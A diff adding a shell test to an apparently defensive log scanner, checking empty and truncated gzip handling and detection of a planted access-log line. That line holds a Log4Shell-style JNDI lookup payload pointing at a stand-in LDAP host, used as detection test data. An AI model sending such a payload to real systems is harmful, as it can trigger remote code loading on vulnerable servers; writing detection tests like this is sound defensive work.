@@ -160,3 +160,23 @@ finds_both() {
     run --separate-stderr k scan --passwords "$BATS_TEST_TMPDIR/none" "$A/plain.rar"
     [ "$status" -eq 2 ]
 }
+
+@test "an empty gzip (Debian ships empty man pages) is no warning; empty members before a log are still read" {
+    local d="$BATS_TEST_TMPDIR/gz"
+    mkdir -p "$d"
+    printf '' | gzip >"$d/empty.1.gz"
+    { printf '' | gzip; printf '' | gzip
+      printf '10.0.0.1 - - GET /?q=${jndi:ldap://x.example/a} HTTP/1.1\n' | gzip
+    } >"$d/access.log.gz"
+    run --separate-stderr "$KENSA" scan --no-summary "$d/empty.1.gz"
+    echo "$status $output $stderr"
+    [ "$status" -eq 0 ]
+    [ -z "$stderr" ]
+    # a gzip that is cut is still a warning, not silently empty
+    head -c 12 "$d/access.log.gz" >"$d/cut.gz"
+    run --separate-stderr "$KENSA" scan --no-summary "$d/cut.gz"
+    [ -n "$stderr" ]
+    run --separate-stderr "$KENSA" logs --no-summary "$d/access.log.gz"
+    [ "$status" -eq 1 ]
+    [[ "$output" == *"x.example"* ]]
+}
